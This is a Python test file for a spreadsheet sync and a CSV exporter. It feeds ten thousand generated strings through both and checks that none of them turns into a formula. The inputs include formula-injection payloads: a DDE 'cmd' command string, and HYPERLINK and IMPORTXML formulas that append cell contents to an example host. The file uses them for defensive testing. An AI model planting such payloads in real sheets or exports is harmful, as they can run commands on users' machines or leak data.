"""Ten thousand texts that would like to be formulas: they come back as the texts that they are."""

import csv
import io
import random
from collections.abc import Iterator
from typing import Final

import pytest

from bot.reports.page import FORMULA_MARKS, csv_text
from core.desk import Desk
from core.recording import UsageRequest
from playground.google import Running, running
from sheets_sync.google_sheet import GoogleSheet
from sheets_sync.sync import Sync
from tests.core.building import STAFF, Office
from tests.sheets_sync.test_google_sheet import OWNER
from tests.sheets_sync.world import RECORD_USAGE

HOW_MANY: Final = 10_000
MARKS: Final = ("=", "+", "-", "@", "\t=", "'=", "''+", "＝", " =", "\n=", "%0A=", '"=', ";=")
BEGINNINGS: Final = (*MARKS, "0", "")
MIDDLES: Final = (
    "1+1",
    'HYPERLINK("http://x.example/?"&A1,"click")',
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "cmd|' /C calc'!A0",
    "SUM(A:A)",
    "0042",
    "TRUE",
    "1e5",
    "2026-11-26",
    "12.50 USD",
    "#REF!",
    "{1,2}",
    "<b>&amp;</b>",
    "ünïcödé 🎟",
    'she said "so", twice',
)
ENDINGS: Final = ("", "", "\n=1", ",=1", ";=1", "\t", " ", '"')


def texts() -> list[str]:
    """Made up the same way each time, no two alike."""
    chance = random.Random(42)
    made = dict[str, None]()
    while len(made) < HOW_MANY:
        marks = "".join(chance.choices("=+-@'\"(),;:!$%&A1 \n", k=chance.randint(0, 6)))
        text = chance.choice(BEGINNINGS) + chance.choice(MIDDLES) + marks + chance.choice(ENDINGS)
        if text.strip():
            made[text] = None
    return list(made)


@pytest.fixture(scope="module")
def google() -> Iterator[Running]:
    """The stand-in, serving."""
    with running(owner=OWNER) as served:
        yield served


@pytest.mark.timeout(600)
def test_no_text_becomes_a_formula_in_the_sheet(office: Office, google: Running) -> None:
    """As descriptions of usages, in History: each cell is that very text."""
    office.enroll()
    wanted = texts()

    def record(desk: Desk) -> None:
        for number, text in enumerate(wanted):
            request = UsageRequest(
                contact="ACME",
                benefit_type="NOTARY",
                description=text,
                again=True,
                idempotency_key=f"t{number}",
            )
            desk.record(request, actor=STAFF)

    office.desk.together(record, fresh=True)
    book = google.drive.create_spreadsheet("B", owner=OWNER, editors=(google.account.email,))
    sheet = GoogleSheet(google.key_file, book.id, google=google.base_url)
    Sync(office.desk, sheet).run()
    header, *rows = book.typed_rows("History")
    column = header.index("Description")
    found = [row[column] for row in rows if row[column] is not None]
    recorded = [entry.description for entry in office.store.entries() if entry.description]
    assert len(recorded) == HOW_MANY
    assert found == recorded
    assert all(isinstance(text, str) for text in found)
    assert not sheet.survey().tabs["History"].formulas


def test_no_text_in_a_cell_that_is_written_over_becomes_a_formula(
    office: Office, google: Running
) -> None:
    """The other way of writing, beside people's own cells: through a refused row's Status."""
    office.enroll()
    book = google.drive.create_spreadsheet("B", owner=OWNER, editors=(google.account.email,))
    sheet = GoogleSheet(google.key_file, book.id, google=google.base_url)
    sync = Sync(office.desk, sheet)
    sync.run()
    level = office.desk.read(lambda books: books.levels_owned("ACME", "PASS")[0])
    for text in texts()[:100]:
        office.comment(level, text)
        sync.run()
        comment = sheet.read(["Assignments"]).tabs["Assignments"].at(1, 13)
        assert comment == office.desk.read(lambda books: books.levels[level.key]).comment
    assert not sheet.survey().tabs["Assignments"].formulas
    assert RECORD_USAGE in book.titles()


def test_no_text_becomes_a_formula_in_a_csv() -> None:
    """No cell begins with a mark; without the quote in front it is the same text again."""
    wanted = texts()
    file = io.StringIO(csv_text(["text"], ({"text": text} for text in wanted)), newline="")
    cells = [row[0] for row in csv.reader(file)][1:]
    assert not any(cell.startswith(FORMULA_MARKS) for cell in cells)
    assert [
        cell.removeprefix("'") if cell.lstrip("'").startswith(FORMULA_MARKS) else cell
        for cell in cells
    ] == wanted
